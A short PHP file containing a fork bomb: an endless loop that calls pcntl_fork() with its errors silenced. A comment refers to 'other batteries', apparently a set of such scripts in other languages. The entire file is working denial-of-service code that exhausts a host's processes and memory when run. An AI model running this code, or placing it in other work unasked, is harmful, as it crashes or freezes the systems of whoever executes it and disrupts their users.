<?php
while (true) {
    @pcntl_fork(); // a refused fork warns; silenced, as the other batteries ignore the error
}
